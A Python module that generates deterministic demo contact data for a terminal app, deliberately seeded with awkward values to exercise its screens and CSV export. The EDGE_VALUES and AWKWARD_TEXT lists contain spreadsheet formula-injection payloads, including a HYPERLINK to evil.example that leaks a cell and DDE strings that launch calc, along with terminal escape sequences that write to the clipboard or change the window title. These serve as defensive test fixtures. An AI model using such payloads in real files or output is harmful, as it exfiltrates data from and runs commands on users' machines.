"""Deterministic demo data, generated row by row on demand (a million-row list costs nothing).

Values are chosen to be awkward on purpose: names in several scripts, Rich markup, escape
sequences, very long strings, nulls, missing keys and extra fields, so that every screen and the
export meet them in ordinary use.
"""

from __future__ import annotations

import functools
import hashlib
import random
import re
import time
import uuid
from dataclasses import dataclass, field
from typing import Any

ACCOUNT_ID = "demo-account"
CLIENT_ID = "cs-demo-kore-tui"
NAMESPACE = uuid.UUID("6b1f0c52-8a5e-4f0e-9d43-4f3a4c1d2e00")
EPOCH = 1_735_689_600  # 2025-01-01T00:00:00Z

FIRST_NAMES = [
    "Ana", "Jürgen", "Søren", "Олена", "Дмитрий", "李娜", "王芳", "さくら", "محمد", "फ़ातिमा",
    "Nguyễn", "Zoë", "José", "Ólafur", "Αλέξανδρος", "Kofi", "Ngozi", "Siobhán", "Mateus", "Aiko",
    "John", "Priya", "Chloé", "Łukasz", "Hana", "Omar", "Ingrid", "Tomás", "Yusuf", "Mei",
]
LAST_NAMES = [
    "Silva", "Müller", "Kowalski", "Шевченко", "Иванов", "张", "佐藤", "الحسن", "शर्मा", "Trần",
    "O'Brien", "Núñez", "Andersson", "Παπαδόπουλος", "Mensah", "Okafor", "Doe", "Rossi", "Kim",
    "García", "Dubois", "Nowak", "Yılmaz", "Novák", "Costa", "Haddad", "Lindqvist", "Ng", "Patel",
]
STATUSES = ["ACTIVE", "ACTIVE", "ACTIVE", "INACTIVE", "BLOCKED"]
CITIES = ["Orlando", "Hyderabad", "München", "São Paulo", "東京", "Kraków", "Lagos", "Reykjavík"]

# Values that break naive terminal apps. Each is used as-is by some rows.
AWKWARD_TEXT = [
    "[/]",
    "[red]x",
    "[bold]not bold[/bold]",
    "\x1b[31mred\x1b[0m",
    "\x1b]52;c;cHduZWQ=\x07clipboard",
    "line1\nline2\r\tend",
    "\u202eevil-rtl",
    "x" * 5000,
    "  spaced  ",
    "🙂 emoji 👩🏽‍💻",
]


@dataclass(frozen=True)
class DemoList:
    id: str
    name: str
    size: int
    description: str = ""
    status: str = "Ready"
    hostile: bool = False  # every row awkward


@dataclass(frozen=True)
class DemoStream:
    id: str
    name: str
    directory_size: int
    lists: tuple[DemoList, ...] = field(default=())


STREAMS: tuple[DemoStream, ...] = (
    DemoStream(
        "st-demo-sales",
        "Sales (demo)",
        1_237,
        (
            DemoList("cl-demo-1k", "Spring callbacks", 1_000, "Customers who asked for a call"),
            DemoList("cl-demo-100k", "Win-back", 100_000, "Lapsed customers"),
            DemoList("cl-demo-250k", "Renewals 2026", 250_000, "Annual renewal reminders"),
            DemoList("cl-demo-1m", "National survey", 1_000_000, "A million numbers"),
            DemoList("cl-demo-seven", "VIP follow-up", 7, "Seven people"),
            DemoList("cl-demo-one", "Single test number", 1),
            DemoList("cl-demo-empty", "Empty list", 0, status="Draft"),
            DemoList("cl-demo-hostile", "[red]Hostile[/] \x1b[31mlist\x1b[0m [/]", 25, "[b]markup[/b]", hostile=True),
        ),
    ),
    DemoStream(
        "st-demo-support",
        "Support (demo)",
        7,
        (DemoList("cl-demo-support", "Callback queue", 42, "Missed calls to return"),),
    ),
    DemoStream("st-demo-empty", "Empty stream (demo)", 0),
)

# `cl-size-N` names a list of N rows on any demo stream: tests pick exact sizes with it.
SIZED_LIST = re.compile(r"^cl-size-(\d{1,8})$")

# Values aimed at the edges, where server text leaves the app: spreadsheet formulas (with the
# tricks that hide them: a leading TAB or CR), line breaks that could end a CSV row, terminal
# escapes (SGR, OSC 0 title, OSC 52 clipboard, BEL, a C1 CSI), bidi controls, DEL and a lone
# surrogate (sent as the JSON escape \ud800). Plain phone numbers are there to stay untouched.
EDGE_VALUES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    'one\rtwo,"three",four',
    "one\ntwo,three",
    "one\r\ntwo",
    "\x1b[31mred\x1b[0m \x1b]0;owned title\x07 \x1b]52;c;ZXZpbA==\x07 bell\x07",
    "\x9b2J C1 CSI",
    "\u202eevil-rtl \u2066isolate\u2069",
    "lone \ud800 surrogate",
    "DEL \x7f here",
    "+44 20 7946 0958",
    "(201) 555-0100",
)
# A stream the picker does not list (tests and `--stream st-demo-edges` reach it): every row
# carries EDGE_VALUES. Its directory has one contact per value; its list has 41 rows.
EDGE_STREAM = DemoStream(
    "st-demo-edges",
    "Edge cases (demo)",
    len(EDGE_VALUES),
    (DemoList("cl-demo-edges", "Edge \x1b]0;title\x07[red]cases[/] \u202elist", 41, "=cmd|' /C calc'!A0"),),
)


def find_stream(stream_id: str) -> DemoStream | None:
    if stream_id == EDGE_STREAM.id:
        return EDGE_STREAM
    return next((s for s in STREAMS if s.id == stream_id), None)


def edge_directory_contact(index: int) -> dict[str, Any]:
    value = EDGE_VALUES[index % len(EDGE_VALUES)]
    return {
        "id": f"edge-contact-{index}",
        "firstName": value,
        "lastName": f"Edge {index}",
        "fullName": value,
        "cellPhone": {"extension": "+1", "phoneNumber": f"+1555{index:07d}", "countryCode": "+1"},
        "status": value,
        "createdAt": _iso(index * 3_600),
        "updatedAt": _iso(index * 3_600 + 60),
    }


def edge_list_contact(size: int, index: int) -> dict[str, Any]:
    value = EDGE_VALUES[index % len(EDGE_VALUES)]
    phone = value if index % 10 == 9 else f"1555{index % len(EDGE_VALUES):07d}"
    contact: dict[str, Any] = {
        "_id": f"edge-{index}",
        "createdAt": _iso(index * 60),
        "updatedAt": _iso(index * 60 + 1),
        "phoneNumber": phone,
        "note": value,
    }
    if index == 0:  # a field name is server text too: it becomes a CSV header
        contact["=SUM(A1:A9)"] = "header"
    return contact


def find_list(stream: DemoStream, list_id: str) -> DemoList | None:
    found = next((lst for lst in stream.lists if lst.id == list_id), None)
    if found is None and (m := SIZED_LIST.match(list_id)):
        found = DemoList(list_id, f"{int(m.group(1)):,} rows", int(m.group(1)))
    return found


# The server makes every row it serves (100 per page, in the app's own process in --demo):
# the helpers below give the values uuid5 and datetime would, at a third of the cost.
_NAMESPACE_SHA1 = hashlib.sha1(NAMESPACE.bytes)


def _digest(name: str) -> bytes:
    """The SHA-1 a version-5 UUID of ``name`` (in NAMESPACE) is made from."""
    sha1 = _NAMESPACE_SHA1.copy()
    sha1.update(name.encode("utf-8"))
    return sha1.digest()


def _uuid5(name: str) -> str:
    """``str(uuid.uuid5(NAMESPACE, name))``."""
    raw = bytearray(_digest(name)[:16])
    raw[6] = (raw[6] & 0x0F) | 0x50  # version 5
    raw[8] = (raw[8] & 0x3F) | 0x80  # RFC 4122 variant
    h = raw.hex()
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def _iso(seconds: int) -> str:
    t = time.gmtime(EPOCH + seconds)
    return (f"{t.tm_year:04d}-{t.tm_mon:02d}-{t.tm_mday:02d}T{t.tm_hour:02d}:{t.tm_min:02d}:{t.tm_sec:02d}."
            f"{seconds % 1000:03d}Z")


def _hexid(*parts: object) -> str:
    return _uuid5(":".join(map(str, parts))).replace("-", "")[:24]


def directory_phone(stream_id: str, index: int) -> str:
    """Directory numbers come in several formats; their digits are `1555` + 7 digits."""
    n = f"{index:07d}"
    style = index % 4
    if style == 0:
        return f"+1555{n}"
    if style == 1:
        return f"+1 555-{n[:3]}-{n[3:]}"
    if style == 2:
        return f"+1 (555) {n[:3]} {n[3:]}"
    return f"1555{n}"


def directory_contact(stream: DemoStream, index: int) -> dict[str, Any]:
    if stream is EDGE_STREAM:
        return edge_directory_contact(index)
    rnd = random.Random(f"{stream.id}:dir:{index}")
    first, last = rnd.choice(FIRST_NAMES), rnd.choice(LAST_NAMES)
    created = index * 3_607 + rnd.randrange(3_600)
    contact: dict[str, Any] = {
        "firstName": first,
        "lastName": last,
        "fullName": f"{first} {last}",
        "salutation": rnd.choice(["mr", "ms", "mx", "dr", ""]),
        "cellPhone": {"extension": "+1", "phoneNumber": directory_phone(stream.id, index), "countryCode": "+1"},
        "status": rnd.choice(STATUSES),
        "instanceBotId": stream.id,
        "orgId": "o-" + str(uuid.uuid5(NAMESPACE, "org")),
        "accountId": ACCOUNT_ID,
        "createdBy": "u-" + _hexid("user", index % 5),
        "createdByAId": "a-" + _hexid("app", index % 3),
        "address": [{"city": rnd.choice(CITIES), "line1": f"{index} Main St"}] if index % 3 == 0 else [],
        "twitterDetails": [],
        "createdAt": _iso(created),
        "updatedAt": _iso(created + rnd.randrange(86_400 * 30)),
        "id": _hexid(stream.id, "contact", index),
    }
    if index % 5 != 0:
        contact["updatedBy"] = contact["createdBy"]
        contact["updatedByAId"] = contact["createdByAId"]
    if index % 53 == 7:
        _make_awkward(contact, index // 53, ("firstName", "lastName", "fullName", "status", "salutation"))
    return contact


def list_contact(stream: DemoStream, lst: DemoList, index: int) -> dict[str, Any]:
    if stream is EDGE_STREAM:
        return edge_list_contact(lst.size, index)
    created = index * 13 + (hash_int(lst.id) % 1000)  # a million rows span ~5 months
    if stream.directory_size and index % 3 == 0:
        # A third of each list's numbers belong to directory contacts, so lookups find both.
        phone = "1555" + f"{(index * 7_919) % stream.directory_size:07d}"
    else:
        phone = f"4420{hash_int(lst.id, index) % 10**8:08d}"
    contact: dict[str, Any] = {
        "_id": "cc-" + _uuid5(f"{lst.id}:{index}"),
        "createdAt": _iso(created),
        "updatedAt": _iso(created + 17),
        "phoneNumber": phone,
    }
    if lst.hostile or index % 97 == 13:
        _make_awkward(contact, index if lst.hostile else index // 97, ("phoneNumber", "_id"))
    return contact


@functools.lru_cache(maxsize=256)  # mostly a list's own id, asked for on every row
def hash_int(*parts: object) -> int:
    # The first 6 bytes of the UUID: untouched by its version and variant bits.
    return int.from_bytes(_digest(":".join(map(str, parts)))[:6], "big")


def _make_awkward(contact: dict[str, Any], which: int, fields: tuple[str, ...]) -> None:
    """Turn one field odd: markup, escapes, long text, null, missing, extra fields, wrong type."""
    kind = which % (len(AWKWARD_TEXT) + 4)
    target = fields[which % len(fields)]
    if kind < len(AWKWARD_TEXT):
        contact[target] = AWKWARD_TEXT[kind]
    elif kind == len(AWKWARD_TEXT):
        contact[target] = None
    elif kind == len(AWKWARD_TEXT) + 1:
        contact.pop(target, None)
    elif kind == len(AWKWARD_TEXT) + 2:
        contact["customFields"] = {"tier": "[gold]", "score": 7, "tags": ["a", "\x1b[5mblink"]}
    else:
        contact[target] = 12345  # a number where text was expected


def contact_list_details(stream: DemoStream, lst: DemoList) -> dict[str, Any]:
    return {
        "_id": lst.id,
        "name": lst.name,
        "description": lst.description,
        "totalRecordCount": lst.size,
        "status": lst.status,
        "listType": "call",
        "isListInUse": lst.size > 0,
        "campaignInUse": [{"id": "camp-" + _hexid(lst.id), "name": f"{lst.name} campaign"}] if lst.size else [],
        "createdAt": _iso(hash_int(lst.id) % 10_000_000),
        "updatedAt": _iso(hash_int(lst.id) % 10_000_000 + 3_600),
        "accountId": ACCOUNT_ID,
        "streamId": stream.id,
    }
